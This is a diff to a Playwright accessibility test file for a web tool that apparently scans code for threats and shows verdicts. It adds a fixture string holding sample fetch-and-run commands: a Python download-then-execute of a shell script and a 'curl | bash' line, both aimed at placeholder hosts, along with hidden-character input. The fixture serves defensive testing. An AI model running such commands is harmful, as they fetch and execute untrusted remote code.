@@ -48,13 +48,90 @@ const tabs = /** @type {const} */ ([
   'json',
 ]);
 
+/** @param {Page} page @param {Parameters<import('playwright-core').Locator['setInputFiles']>[0]} files */
+const openFiles = (page, files) => page.locator('#files').setInputFiles(files);
+
+/** @param {string} name @param {string} text */
+const file = (name, text) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
+
+const fetching = `import os, urllib.request
+urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
+os.system("sh /tmp/a.sh")
+os.system("curl -s http://198.51.100.7/b | bash")
+`;
+
+/** States of the page by their names: how to get there from the empty page. @type {Record<string, (page: Page) => Promise<unknown>>} */
+const states = {
+  empty: async () => {},
+  ...Object.fromEntries(
+    tabs.map((tab) => [
+      `the tab ${tab}`,
+      async (/** @type {Page} */ page) => {
+        await paste(page, example('reverse-shell.json'));
+        await page.locator('pv-facts summary').first().click();
+        await openTab(page, tab);
+        if (['code', 'layers', 'json'].includes(tab)) await page.locator('.cm-line').first().waitFor();
+      },
+    ]),
+  ),
+  ...Object.fromEntries(
+    ['several', 'truncated', 'admin', 'webhook', 'checked-download'].map((id) => [
+      `the example ${id}`,
+      (/** @type {Page} */ page) => page.locator(`#${id}`).click(),
+    ]),
+  ),
+  'what moved the score': async (page) => {
+    await page.locator('#webhook').click();
+    await page.locator('pv-verdict-card .moved summary').click();
+  },
+  'the menu to save': async (page) => {
+    await page.locator('#webhook').click();
+    await page.locator('#save').click();
+  },
+  'an explanation': async (page) => {
+    await paste(page, example('reverse-shell.json'));
+    await page.locator('pv-verdict-card .reasons button').first().click();
+    await page.locator('.pv-target').first().hover();
+    await page.locator('.pv-explain').waitFor();
+  },
+  'the search': async (page) => {
+    await page.locator('#webhook').click();
+    await openCode(page);
+    await page.locator('#search').click();
+    await page.locator('.cm-search input[name=search]').pressSequentially('import');
+    await page.keyboard.press('Enter');
+    await page.locator('.cm-searchMatch-selected').first().waitFor();
+  },
+  'hidden characters': async (page) => {
+    await paste(page, `# \u202e ${'x'.repeat(300)}\n${fetching}`);
+    await openCode(page);
+    await page.locator('.pv-control').waitFor();
+  },
+  'what it would fetch': async (page) => {
+    await paste(page, fetching);
+    await openTab(page, 'indicators');
+  },
+  'the relations of findings': async (page) => {
+    await page.locator('#several').click();
+    await openTab(page, 'related');
+  },
+  'files, one of which cannot be read': (page) =>
+    openFiles(page, [file('a.py', fetching), file('b.py', 'print(1)\n'), file('c.zip', 'no archive')]),
+  'no finding': (page) => paste(page, '{"finding": {"category": 1}, "severity"'),
+  'the allow list': async (page) => {
+    await page.locator('#webhook').click();
+    await page.locator('pv-verdict-card #allow').click();
+    await page.locator('pv-allow-dialog dialog').waitFor();
+  },
+};
+
 for (const colorScheme of /** @type {const} */ (['light', 'dark']))
   for (const [screen, width] of /** @type {const} */ ([
     ['wide', 1280],
     ['phone', 390],
   ]))
     for (const locale of /** @type {const} */ (['en-GB', 'pt-PT'])) {
-      const name = `${colorScheme}, ${screen}, ${locale}`;
+      const look = `${colorScheme}, ${screen}, ${locale}`;
       const options = {
         colorScheme,
         locale,
@@ -63,12 +140,11 @@ for (const colorScheme of /** @type {const} */ (['light', 'dark']))
         reducedMotion: /** @type {const} */ ('reduce'),
       };
 
-      test(`axe finds nothing on the empty page and while it works, ${name}`, () =>
+      test(`axe finds nothing while the page works, ${look}`, () =>
         inPage({ ...options, goto: false }, async (page) => {
           const release = await held(page);
           await page.goto(address);
           await page.locator('textarea').waitFor();
-          await check(page, 'empty');
           await paste(page, example('reverse-shell.json'));
           await page.locator('#cancel').waitFor();
           await check(page, 'working');
@@ -76,36 +152,26 @@ for (const colorScheme of /** @type {const} */ (['light', 'dark']))
           await page.locator('pv-verdict-card').waitFor();
         }));
 
-      test(`axe finds nothing in any tab, ${name}`, () =>
+      test(`axe finds nothing in any state, ${look}`, () =>
         inPage(options, async (page) => {
-          await paste(page, example('reverse-shell.json'));
-          await page.locator('pv-facts summary').first().click();
-          for (const tab of tabs) {
-            await openTab(page, tab);
-            if (tab === 'code' || tab === 'json') await page.locator('.cm-line').first().waitFor();
-            await check(page, tab);
+          for (const [name, reach] of Object.entries(states)) {
+            await reach(page);
+            if (name !== 'empty') await page.locator('pv-verdict-card').waitFor();
+            await check(page, name);
+            await page.keyboard.press('Escape');
+            if (name !== 'empty') await page.locator('#new').click();
+            await page.locator('textarea').waitFor();
           }
-          await page.locator('#save').click();
-          await check(page, 'the menu to save');
         }));
 
-      test(`axe finds nothing in a verdict of any label, and in a list, ${name}`, () =>
-        inPage(options, async (page) => {
-          for (const id of ['several', 'truncated', 'admin', 'webhook', 'checked-download']) {
-            await page.locator(`#${id}`).click();
-            await page.locator('pv-verdict-card').waitFor();
-            await check(page, `${id}, as it opens`);
-            await openCode(page);
-            await check(page, id);
-            if (id === 'several') {
-              await openTab(page, 'related');
-              await check(page, 'related');
-            }
-            await page.locator('#new').click();
-          }
-          await paste(page, '{"finding": {"category": 1}, "severity"');
-          await page.locator('pv-verdict-card').waitFor();
-          await check(page, 'no finding');
+      test(`axe finds nothing in the plain text that stands in for the editor, ${look}`, () =>
+        inPage({ ...options, goto: false, broken: /\/editor-/ }, async (page) => {
+          await page.route(/\/editor-[^/]*\.js$/, (route) => route.abort());
+          await page.goto(address);
+          await paste(page, `# \u202e ${'x'.repeat(300)}\n${fetching}`);
+          await openTab(page, 'code');
+          await page.locator('pv-plain-text').waitFor();
+          await check(page, 'plain text');
         }));
     }
 
@@ -124,18 +190,6 @@ for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
       await page.goto(address);
       await page.locator('pv-notice').waitFor();
       await check(page, 'not loaded');
-    }));
-
-  test(`axe finds nothing in an explanation and in the search, ${colorScheme}`, () =>
-    inPage({ colorScheme, init: axe.source }, async (page) => {
-      await paste(page, example('reverse-shell.json'));
-      await page.locator('pv-verdict-card .reasons button').first().click();
-      await page.locator('.pv-target').first().hover();
-      await page.locator('.pv-explain').waitFor();
-      await check(page, 'explanation');
-      await page.locator('#search').click();
-      await page.locator('.cm-search').waitFor();
-      await check(page, 'search');
     }));
 }
 
